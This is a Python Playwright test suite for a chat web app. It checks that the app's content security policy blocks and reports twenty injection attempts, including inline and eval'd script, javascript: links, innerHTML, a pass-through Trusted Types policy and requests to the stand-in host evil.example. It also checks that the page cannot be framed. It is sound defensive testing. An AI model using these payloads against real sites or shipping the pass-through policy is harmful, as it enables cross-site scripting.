"""The policy that pages are sent with is one that a browser enforces: each thing it forbids is tried on purpose."""

import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.visitor import until
from tests.server import Server

# What to try in the page, and the directive that the browser's report has to name.
FORBIDDEN = {
    "inline script": ("tag('script', {textContent: policy.createScript('globalThis.pwned = 1')})", "script-src-elem"),
    "script from elsewhere": ("tag('script', {src: policy.createScriptURL(there + 'x.js')})", "script-src-elem"),
    "script from data": ("tag('script', {src: policy.createScriptURL('data:,pwned=1')})", "script-src-elem"),
    "inline handler": ("tag('b').setAttribute('onclick', policy.createScript('pwned = 1'))", "script-src-attr"),
    "javascript address": ("tag('a', {href: 'javascript:pwned=1'}).click()", "script-src-elem"),
    "eval": ("(0, eval)(policy.createScript('globalThis.pwned = 1'))", "script-src"),
    "text as markup": ("tag('b').innerHTML = '<i>x</i>'", "require-trusted-types-for"),
    "text as script": ("tag('script').textContent = 'globalThis.pwned = 1'", "require-trusted-types-for"),
    "policy of one's own": ("trustedTypes.createPolicy('mine', {})", "trusted-types"),
    "inline style": ("tag('style', {textContent: '* { color: red }'})", "style-src-elem"),
    "style from elsewhere": ("tag('link', {rel: 'stylesheet', href: there + 'x.css'})", "style-src-elem"),
    "image from elsewhere": ("tag('img', {src: there + 'x.png'})", "img-src"),
    "sound from elsewhere": ("tag('audio', {src: there + 'x.mp3'})", "media-src"),
    "font from elsewhere": ("new FontFace('x', `url(${there}x.woff2)`).load().catch(() => {})", "font-src"),
    "request elsewhere": ("fetch(there).catch(() => {})", "connect-src"),
    "socket elsewhere": ("new WebSocket('wss://evil.example/')", "connect-src"),
    "frame": ("tag('iframe', {src: there})", "frame-src"),
    "plug-in": ("tag('object', {data: policy.createScriptURL(there), type: 'text/html'})", "object-src"),
    "base": ("document.head.append(Object.assign(document.createElement('base'), {href: there}))", "base-uri"),
    "form": ("tag('form', {action: there, method: 'post'}).submit()", "form-action"),
}

# The page's own policies let nothing dangerous through, so a lenient one stands in for a library with a hole.
# Late reports must not reach the next try, so two empty tasks end each.
_TRY = """() => new Promise((report) => {
  const done = (directive) => setTimeout(() => setTimeout(() => report(directive)))
  document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), {once: true})
  setTimeout(() => done("nothing was reported"), 60_000)
  const asIs = (text) => text
  globalThis.hole ??= trustedTypes.createPolicy("svelte-trusted-html", {
    createHTML: asIs, createScript: asIs, createScriptURL: asIs,
  })
  const policy = globalThis.hole
  const there = "https://evil.example/"
  const tag = (name, fields) => {
    const made = Object.assign(document.createElement(name), fields)
    document.body.append(made)
    return made
  }
  try { ACT } catch {}
})"""


@pytest.fixture(scope="module")
def page(browser: Browser, chat: Server) -> Iterator[Page]:
    """The door of a room; what it reports is asked for, so its console may say so."""
    context = browser.new_context(service_workers="block")
    opened = context.new_page()
    opened.goto(f"{chat.url}/")
    opened.locator("form#login").wait_for()
    yield opened
    context.close()


@pytest.mark.parametrize("name", FORBIDDEN)
def test_the_browser_stops_and_reports_what_the_policy_forbids(page: Page, name: str) -> None:
    act, directive = FORBIDDEN[name]
    assert page.evaluate(_TRY.replace("ACT", act)) == directive
    assert page.evaluate("globalThis.pwned") is None


def test_the_page_itself_provokes_nothing(browser: Browser, chat: Server) -> None:
    context = browser.new_context(service_workers="block")
    opened = context.new_page()
    opened.add_init_script(
        "globalThis.reports = [];"
        "document.addEventListener('securitypolicyviolation', (event) => globalThis.reports.push(event.blockedURI))"
    )
    opened.goto(f"{chat.url}/")
    opened.locator("form#login").wait_for()
    assert opened.evaluate("globalThis.reports") == []
    context.close()


def test_nobody_may_put_the_page_into_a_frame(browser: Browser, chat: Server, tmp_path: Path) -> None:
    framed = "".join(
        f"<iframe src='{chat.url}{path}'></iframe>" for path in ("/", "/r/main", "/api/health", "/icon.svg")
    )
    (tmp_path / "index.html").write_text(framed, encoding="utf-8")
    elsewhere = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=tmp_path))
    serving = threading.Thread(target=elsewhere.serve_forever, args=(0.05,), daemon=True)
    serving.start()
    context = browser.new_context()
    opened = context.new_page()
    opened.goto(f"http://127.0.0.1:{elsewhere.server_address[1]}/")
    until(opened, lambda: all(frame.url not in ("", "about:blank") for frame in opened.frames))
    *refused, picture = [frame.url for frame in opened.frames if frame != opened.main_frame]
    context.close()
    elsewhere.shutdown()
    elsewhere.server_close()
    serving.join()
    assert picture == f"{chat.url}/icon.svg", "what may be framed is, so the others were refused for their headers"
    assert refused == ["chrome-error://chromewebdata/"] * 3


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        pass
